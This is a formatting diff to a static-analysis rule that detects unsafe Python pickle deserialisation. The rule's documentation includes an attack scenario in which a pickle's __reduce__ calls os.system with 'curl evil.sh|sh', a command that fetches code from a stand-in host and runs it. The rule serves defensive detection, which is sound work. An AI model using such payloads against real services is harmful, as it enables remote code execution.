@@ -6,8 +6,11 @@ import type { CallInfo } from '../../src/analysis/python/call-name.js';
 const PICKLE_MODULES = ['pickle', 'cPickle', '_pickle', 'dill', 'cloudpickle'];
 const LOADERS = [
   ...PICKLE_MODULES.flatMap((m) => [`${m}.load`, `${m}.loads`, `${m}.Unpickler`]),
-  'shelve.open', 'shelve.DbfilenameShelf',
-  'jsonpickle.decode', 'jsonpickle.unpickler.decode', 'jsonpickle.unpickler.Unpickler',
+  'shelve.open',
+  'shelve.DbfilenameShelf',
+  'jsonpickle.decode',
+  'jsonpickle.unpickler.decode',
+  'jsonpickle.unpickler.Unpickler',
   'pandas.read_pickle',
 ];
 
@@ -29,14 +32,19 @@ export default defineRule({
       load: '`{{fn}}` deserialises with pickle, which runs code chosen by whoever wrote the data.',
     },
     docs: {
-      whatItDoes: 'Flags `pickle`/`cPickle`/`dill`/`cloudpickle` loads and Unpicklers, `shelve.open`, `jsonpickle.decode` and `pandas.read_pickle`.',
-      whyBad: 'A pickle stream is a program: `__reduce__` lets it call any importable function (`os.system`) while loading. Signing or trusting the transport is the only protection; validation after loading is too late.',
-      businessImpact: 'Remote code execution for anyone who can put bytes in front of the loader (cache, queue, upload, cookie).',
-      attackScenario: 'A service caches sessions as pickles in Redis; an attacker with write access to Redis stores a pickle whose `__reduce__` returns `(os.system, ("curl evil.sh|sh",))` and the next request runs it.',
+      whatItDoes:
+        'Flags `pickle`/`cPickle`/`dill`/`cloudpickle` loads and Unpicklers, `shelve.open`, `jsonpickle.decode` and `pandas.read_pickle`.',
+      whyBad:
+        'A pickle stream is a program: `__reduce__` lets it call any importable function (`os.system`) while loading. Signing or trusting the transport is the only protection; validation after loading is too late.',
+      businessImpact:
+        'Remote code execution for anyone who can put bytes in front of the loader (cache, queue, upload, cookie).',
+      attackScenario:
+        'A service caches sessions as pickles in Redis; an attacker with write access to Redis stores a pickle whose `__reduce__` returns `(os.system, ("curl evil.sh|sh",))` and the next request runs it.',
       example: 'session = pickle.loads(redis.get(key))',
       useInstead: 'session = json.loads(redis.get(key))  # or sign the bytes with hmac and verify before loading',
       testing: 'Load a crafted pickle whose `__reduce__` creates a marker file and assert the loader refuses it.',
-      knownProblems: 'Loading files the application wrote itself is reported too; document the trust boundary when suppressing.',
+      knownProblems:
+        'Loading files the application wrote itself is reported too; document the trust boundary when suppressing.',
       references: [
         'https://docs.python.org/3/library/pickle.html#restricting-globals',
         'https://cwe.mitre.org/data/definitions/502.html',
